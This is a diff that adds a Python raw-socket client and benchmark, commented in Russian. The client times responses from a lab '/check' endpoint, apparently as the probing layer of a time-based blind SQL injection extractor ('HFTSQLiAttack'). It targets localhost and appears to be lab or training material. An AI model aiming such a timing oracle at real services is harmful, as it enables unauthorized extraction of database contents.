@@ -0,0 +1,163 @@
+import socket
+import threading
+import time
+import statistics
+from typing import Dict, List, Optional, Tuple
+from urllib.parse import quote, urlparse
+
+
+class RawProbeClient:
+    """
+    Низкоуровневый клиент для /check: запрос собирается из заранее
+    закодированного шаблона, время фиксируется по приходу первого байта
+    ответа, из ответа разбирается только строка статуса.
+
+    Лабораторные серверы отвечают по HTTP/1.0 и закрывают соединение после
+    каждого ответа, поэтому сокет не переиспользуется, но соединение
+    устанавливается до начала замера: TCP handshake (его выполняет ядро,
+    не дожидаясь accept) в измеряемый интервал не попадает.
+    """
+
+    BUFFER_SIZE = 65536
+
+    def __init__(self, base_url: str = "http://127.0.0.1:8888", path: str = '/check',
+                 param: str = 'condition', timeout: float = 1):
+        parsed = urlparse(base_url)
+        self.address = (parsed.hostname or '127.0.0.1', parsed.port or 80)
+        self.timeout = timeout
+
+        host = f"{self.address[0]}:{self.address[1]}"
+        self._prefix = f"GET {path}?{param}=".encode()
+        self._suffix = (
+            f" HTTP/1.1\r\nHost: {host}\r\nUser-Agent: HFT-Trader/1.0\r\n"
+            f"Connection: close\r\n\r\n"
+        ).encode()
+        self._local = threading.local()
+
+    def prepare(self, condition: str) -> bytes:
+        """
+        Готовый к отправке запрос: условие вставляется между заранее
+        закодированными префиксом и суффиксом. Условия извлечения почти
+        все уникальны, поэтому готовые запросы не кешируются.
+        """
+        return self._prefix + quote(condition, safe='').encode() + self._suffix
+
+    def _connect(self) -> socket.socket:
+        sock = socket.create_connection(self.address, timeout=self.timeout)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        return sock
+
+    def _buffer(self) -> bytearray:
+        buffer = getattr(self._local, 'buffer', None)
+        if buffer is None:
+            buffer = self._local.buffer = bytearray(self.BUFFER_SIZE)
+        return buffer
+
+    def probe(self, request: bytes) -> Optional[Tuple[int, int]]:
+        """(код ответа, нс до первого байта) или None при сетевой ошибке"""
+        buffer = self._buffer()
+        try:
+            sock = self._connect()
+        except OSError:
+            return None
+
+        try:
+            start = time.perf_counter_ns()
+            sock.sendall(request)
+            received = sock.recv_into(buffer)
+            first_byte_ns = time.perf_counter_ns() - start
+
+            # "HTTP/1.0 200 ..." - код ответа занимает байты 9..11
+            while received < 12:
+                chunk = sock.recv_into(memoryview(buffer)[received:])
+                if not chunk:
+                    return None
+                received += chunk
+            status = (buffer[9] - 48) * 100 + (buffer[10] - 48) * 10 + (buffer[11] - 48)
+
+            # Тело не разбирается, но вычитывается до EOF, чтобы сервер не
+            # получил RST посреди записи ответа
+            while sock.recv_into(buffer):
+                pass
+            return status, first_byte_ns
+        except OSError:
+            return None
+        finally:
+            sock.close()
+
+    def send_request(self, condition: str) -> Optional[float]:
+        """Совместимо с HFTSQLiAttack.send_request: секунды или None"""
+        result = self.probe(self.prepare(condition))
+        if result is None or result[0] != 200:
+            return None
+        return result[1] / 1e9
+
+
+def _summary(times: List[float], cpu_ns: int) -> Dict[str, float]:
+    times = sorted(times)
+    return {
+        'samples': len(times),
+        'mean_us': statistics.mean(times) * 1e6,
+        'median_us': times[len(times) // 2] * 1e6,
+        'stdev_us': statistics.stdev(times) * 1e6 if len(times) > 1 else 0.0,
+        'p99_us': times[min(len(times) - 1, int(len(times) * 0.99))] * 1e6,
+        'client_cpu_us': cpu_ns / max(len(times), 1) / 1e3,
+    }
+
+
+def benchmark(base_url: str = "http://127.0.0.1:8888", samples: int = 1000,
+              condition: str = "id = 99") -> Dict[str, Dict[str, float]]:
+    """
+    Сравнение накладных расходов клиента: requests против сырых сокетов.
+    Условие ложно, чтобы в замер не попадала серверная задержка 1 мс.
+    client_cpu_us - процессорное время клиента на один замер.
+    """
+    import requests
+
+    results = {}
+
+    session = requests.Session()
+    url = f"{base_url}/check"
+    times = []
+    cpu_start = time.thread_time_ns()
+    for _ in range(samples):
+        start = time.perf_counter()
+        response = session.get(url, params={'condition': condition}, timeout=1)
+        elapsed = time.perf_counter() - start
+        if response.status_code == 200:
+            times.append(elapsed)
+    results['requests'] = _summary(times, time.thread_time_ns() - cpu_start)
+
+    client = RawProbeClient(base_url)
+    request = client.prepare(condition)
+    times = []
+    cpu_start = time.thread_time_ns()
+    for _ in range(samples):
+        result = client.probe(request)
+        if result is not None and result[0] == 200:
+            times.append(result[1] / 1e9)
+    results['raw'] = _summary(times, time.thread_time_ns() - cpu_start)
+
+    return results
+
+
+def main():
+    import sys
+
+    base_url = sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:8888"
+    samples = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
+
+    print(f" Бенчмарк клиента: {base_url}, {samples} замеров на режим")
+    results = benchmark(base_url, samples)
+
+    print("=" * 80)
+    print(f" {'Режим':<10} {'среднее':>9} {'медиана':>9} {'σ':>9} {'p99':>9} {'CPU клиента':>12}  (мкс)")
+    print("-" * 80)
+    for mode, r in results.items():
+        print(f" {mode:<10} {r['mean_us']:9.1f} {r['median_us']:9.1f} {r['stdev_us']:9.1f} "
+              f"{r['p99_us']:9.1f} {r['client_cpu_us']:12.1f}")
+    print("=" * 80)
+
+
+if __name__ == "__main__":
+    main()